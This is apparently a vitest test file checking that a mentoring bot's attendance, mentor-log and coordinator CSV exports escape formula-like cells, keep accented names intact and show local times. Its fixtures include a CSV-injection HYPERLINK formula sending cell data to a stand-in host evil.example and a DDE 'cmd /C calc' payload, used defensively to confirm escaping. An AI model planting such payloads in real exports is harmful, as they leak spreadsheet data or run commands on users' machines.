// Every CSV export is safe to open in a spreadsheet: a display name or a mentor's own text
// that starts like a formula stays text, a UTF-8 byte-order mark keeps "Zoë" intact in Excel,
// and times read as local wall-clock time in the workspace's zone. Through the console, on
// SQLite and PostgreSQL: attendance, the mentor's own log, and the coordinator report.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { makeApp, PROVIDERS, type TestApp } from "../support/app.js";
import { ConsoleDriver } from "../support/console.js";
import { ensureMember, ensureWorkspace, setRoles } from "../../src/services/workspaces.js";
import { CONSOLE_WORKSPACE } from "../../src/platforms/console/session.js";

const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
const PLUS = "+1+cmd|' /C calc'!A0";
const ZOE = "Zoë Ångström";

/** RFC 4180 as csv-stringify writes it: quoted cells with doubled quotes, rows ending in a line feed. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') ((cell += '"'), i++);
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") (row.push(cell), (cell = ""));
    else if (ch === "\n") (row.push(cell), rows.push(row), (row = []), (cell = ""));
    else cell += ch;
  }
  return rows;
}

/** The cells of a CSV export, after checking it opens with a byte-order mark. */
function cells(csv: string): string[][] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  return parse(csv.slice(1));
}
const formulaLike = (c: string) => /^[=+\-@\t\r]/.test(c);

describe.each(PROVIDERS)("CSV exports [%s]", (provider) => {
  let app: TestApp;
  let con: ConsoleDriver;
  beforeEach(async () => {
    app = await makeApp(provider, { now: "2026-11-30T15:00:00Z" });
    con = new ConsoleDriver(app);
    await con.as("admin", "general", "/cadre role add user:@lead role:leader");
  });
  afterEach(() => app?.stop());

  /** Display names as the platform reported them (the console uses the user id otherwise). */
  async function name(userId: string, displayName: string) {
    const ws = await ensureWorkspace(app.deps.db, "console", CONSOLE_WORKSPACE, "America/New_York");
    await ensureMember(app.deps.db, ws.id, userId, displayName);
    return ws;
  }

  it("attendance: formula names stay text, non-ASCII survives, check-in reads 2026-12-01 12:01", async () => {
    const [ann] = await con.as("lead", "scoring", '/session announce "Scoring" when:"Dec 1 noon" hours:3');
    const id = /Session ([A-Z0-9]{4,8})/.exec(ann!.text)![1]!;
    await con.as("eve", "scoring", `/session rsvp id:${id} answer:going`);
    app.clock.set("2026-12-01T17:01:00Z"); // 12:01 in New York, during the session
    await con.as("eve", "scoring", `/session checkin id:${id}`);
    await con.as("zoe", "scoring", `/session rsvp id:${id} answer:maybe`);
    await name("eve", HOSTILE);
    await name("zoe", ZOE);
    await name("lead", PLUS);
    await con.as("lead", "scoring", `/session checkin id:${id} user:@zoe`);
    await name("lead", PLUS); // acting refreshed lead's name from the console
    const [out] = await con.as("lead", "scoring", `/session export id:${id}`);
    const rows = cells(out!.reply.files![0]!.content);
    expect(rows[0]).toEqual([
      "name",
      "platform user id",
      "rsvp",
      "checked in",
      "marked by",
      "session",
      "session date",
      "session hours",
      "checked out",
      "hours credited",
    ]);
    for (const c of rows.flat()) expect(formulaLike(c)).toBe(false);
    const eve = rows.find((r) => r[1] === "eve")!;
    // Each row names the session, its local start and its length, for a stipend sheet.
    expect(eve).toEqual([
      `'${HOSTILE}`,
      "eve",
      "Going",
      "2026-12-01 12:01",
      "self",
      "Scoring",
      "2026-12-01 12:00",
      "3.00",
      "",
      "3.00", // 12:01 to the end, rounded to the nearest 15 min
    ]);
    const zoe = rows.find((r) => r[1] === "zoe")!;
    expect(zoe[0]).toBe(ZOE);
    expect(zoe[3]).toBe("2026-12-01 12:01");
  });

  it("the mentor's own log: a note or mentee that looks like a formula stays text, and accents survive", async () => {
    await con.as("mia", "dm", `/mentor log duration:1h mentee:"${ZOE}" topics:planning notes:"-2+3 @SUM(A1)"`);
    await con.as("mia", "dm", `/mentor log duration:30m mentee:"=1+1" topics:planning`);
    const dm = (await con.as("mia", "dm", "/mentor export")).find((p) => p.kind === "dm")!;
    const rows = cells(dm.reply.files![0]!.content);
    expect(rows[0]).toEqual(["date", "minutes", "mentee", "topics", "mode", "notes", "id"]);
    for (const c of rows.flat()) expect(formulaLike(c)).toBe(false);
    const texts = rows.slice(1).flatMap((r) => [r[2], r[5]]);
    expect(texts).toEqual(expect.arrayContaining([ZOE, "'-2+3 @SUM(A1)", "'=1+1"]));
  });

  it("the coordinator report: hostile mentor names stay text, non-ASCII names survive", async () => {
    const ws = await name("coord", "coord");
    await setRoles(app.deps.db, ws.id, "coord", ["coordinator"]);
    for (const m of ["m1", "m2"]) await con.as(m, "dm", `/mentor log duration:1h mentee:"a teacher" topics:planning`);
    await con.as("admin", "general", "/cadre role add user:@m3 role:mentor");
    await name("m1", HOSTILE);
    await name("m2", ZOE);
    const [out] = await con.as("coord", "general", "/mentor report");
    const rows = cells(out!.reply.files![0]!.content);
    for (const c of rows.flat()) expect(formulaLike(c)).toBe(false);
    expect(rows.find((r) => r[1] === "m1")![0]).toBe(`'${HOSTILE}`);
    expect(rows.find((r) => r[1] === "m2")![0]).toBe(ZOE);
    // Anyone may log; the column says who holds the mentor role (m3 holds it and logged nothing).
    expect(rows[0]).toEqual([
      "mentor",
      "platform user id",
      "hours",
      "entries",
      "last entry",
      "has mentor role",
      "confirmed hours",
      "unconfirmed hours",
    ]);
    expect(rows.find((r) => r[1] === "m1")!.slice(2)).toEqual(["1.00", "1", expect.any(String), "no", "0.00", "1.00"]);
    expect(rows.find((r) => r[1] === "m3")!.slice(2)).toEqual(["0.00", "0", "", "yes", "0.00", "0.00"]);
  });
});
